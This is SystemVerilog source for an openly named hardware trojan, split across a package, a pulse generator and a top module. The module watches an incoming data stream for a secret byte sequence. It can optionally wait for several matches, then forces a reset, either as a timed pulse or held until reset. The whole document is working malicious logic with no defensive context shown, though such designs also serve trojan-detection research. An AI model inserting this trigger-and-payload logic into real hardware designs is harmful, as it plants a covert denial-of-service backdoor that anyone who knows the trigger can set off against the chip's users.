// File: rtl/trojan_pkg.sv
// Shared constants and types for the sequence-triggered trojan block.
// Imported by seq_trigger_trojan and trojan_pulse_gen.
package trojan_pkg;

    localparam int TROJAN_MAX_SEQ_LEN   = 8;
    localparam int TROJAN_MAX_PULSE_LEN = 255;

    typedef enum logic {
        PAYLOAD_PULSE,
        PAYLOAD_STICKY
    } payload_mode_e;

    function automatic payload_mode_e payload_mode(input int sticky);
        return (sticky != 0) ? PAYLOAD_STICKY : PAYLOAD_PULSE;
    endfunction

endpackage

// File: rtl/trojan_pulse_gen.sv
// Payload timing: a reloadable down-counter for fixed-length pulses, or a
// latch that holds the payload until reset.
module trojan_pulse_gen
    import trojan_pkg::*;
#(
    parameter int            PULSE_LEN = 4,
    parameter payload_mode_e MODE      = PAYLOAD_PULSE
) (
    input  logic clk,
    input  logic rst,
    input  logic fire,
    output logic force_reset
);

    generate
        if (MODE == PAYLOAD_STICKY) begin : g_sticky
            logic sticky_q;

            // NOTE: sequential state uses non-blocking assignments so every
            // register samples the pre-edge values of the others.
            always_ff @(posedge clk or posedge rst) begin
                if (rst) begin
                    sticky_q    <= 1'b0;
                    force_reset <= 1'b0;
                end else begin
                    if (fire) sticky_q <= 1'b1;
                    force_reset <= sticky_q | fire;
                end
            end
        end else begin : g_pulse
            localparam logic [7:0] LOAD = 8'(PULSE_LEN);
            logic [7:0] cnt_q;

            // Output stays high while more than one cycle of the pulse remains,
            // so the pulse covers exactly PULSE_LEN edges starting at the fire edge.
            always_ff @(posedge clk or posedge rst) begin
                if (rst) begin
                    cnt_q       <= '0;
                    force_reset <= 1'b0;
                end else begin
                    if (fire)
                        cnt_q <= LOAD;
                    else if (cnt_q != '0)
                        cnt_q <= cnt_q - 8'd1;
                    force_reset <= fire | (cnt_q > 8'd1);
                end
            end
        end
    endgenerate

endmodule

// File: rtl/seq_trigger_trojan.sv
// Watches a valid-qualified data stream for PATTERN and fires a reset payload.
// Define TROJAN_ARM_COUNT_EN to require ARM_COUNT triggers before the payload fires.
module seq_trigger_trojan
    import trojan_pkg::*;
#(
    parameter int                          DATA_W    = 8,
    parameter int                          SEQ_LEN   = 3,
    parameter logic [SEQ_LEN*DATA_W-1:0]   PATTERN   = {8'hF0, 8'h55, 8'hAA},
    parameter int                          PULSE_LEN = 4,
    parameter int                          STICKY    = 0
`ifdef TROJAN_ARM_COUNT_EN
    ,
    parameter int                          ARM_COUNT = 2
`endif
) (
    input  logic              clk,
    input  logic              rst,
    input  logic              data_valid,
    input  logic [DATA_W-1:0] data_in,
    output logic              force_reset,
    output logic              armed
);

    generate
        if (SEQ_LEN < 2 || SEQ_LEN > TROJAN_MAX_SEQ_LEN) begin : g_bad_seq_len
            $error("seq_trigger_trojan: SEQ_LEN %0d outside 2..%0d", SEQ_LEN, TROJAN_MAX_SEQ_LEN);
        end
        if (PULSE_LEN < 1 || PULSE_LEN > TROJAN_MAX_PULSE_LEN) begin : g_bad_pulse_len
            $error("seq_trigger_trojan: PULSE_LEN %0d outside 1..%0d", PULSE_LEN, TROJAN_MAX_PULSE_LEN);
        end
`ifdef TROJAN_ARM_COUNT_EN
        if (ARM_COUNT < 1 || ARM_COUNT > 15) begin : g_bad_arm_count
            $error("seq_trigger_trojan: ARM_COUNT %0d outside 1..15", ARM_COUNT);
        end
`endif
    endgenerate

    localparam int                IDX_W    = $clog2(SEQ_LEN);
    localparam logic [IDX_W-1:0]  LAST_IDX = IDX_W'(SEQ_LEN - 1);

    logic [IDX_W-1:0]  idx_q, idx_d;
    logic [DATA_W-1:0] first_word, last_word, cur_word;
    logic              trigger, fire;

    assign first_word = PATTERN[DATA_W-1:0];
    assign last_word  = PATTERN[SEQ_LEN*DATA_W-1 -: DATA_W];
    assign cur_word   = PATTERN[int'(idx_q)*DATA_W +: DATA_W];

    // NOTE: every signal written here gets a default first, so no path
    // through the block can leave it unassigned and infer a latch.
    always_comb begin
        idx_d   = idx_q;
        trigger = 1'b0;
        if (data_valid) begin
            if (data_in == cur_word) begin
                if (idx_q == LAST_IDX) begin
                    trigger = 1'b1;
                    idx_d   = (last_word == first_word) ? IDX_W'(1) : '0;
                end else begin
                    idx_d = idx_q + IDX_W'(1);
                end
            end else begin
                // A broken sequence may itself be the start of a new one.
                idx_d = (data_in == first_word) ? IDX_W'(1) : '0;
            end
        end
    end

    always_ff @(posedge clk or posedge rst) begin
        if (rst) idx_q <= '0;
        else     idx_q <= idx_d;
    end

    assign armed = (idx_q != '0);

`ifdef TROJAN_ARM_COUNT_EN
    localparam logic [3:0] ARM_LAST = 4'(ARM_COUNT - 1);
    logic [3:0] arm_cnt_q;

    // Counts triggers up to ARM_COUNT-1 and then saturates; from there on
    // every trigger is passed to the payload.
    always_ff @(posedge clk or posedge rst) begin
        if (rst)
            arm_cnt_q <= '0;
        else if (trigger && arm_cnt_q != ARM_LAST)
            arm_cnt_q <= arm_cnt_q + 4'd1;
    end

    assign fire = trigger && (arm_cnt_q == ARM_LAST);
`else
    assign fire = trigger;
`endif

    trojan_pulse_gen #(
        .PULSE_LEN (PULSE_LEN),
        .MODE      (payload_mode(STICKY))
    ) u_pulse_gen (
        .clk         (clk),
        .rst         (rst),
        .fire        (fire),
        .force_reset (force_reset)
    );

endmodule
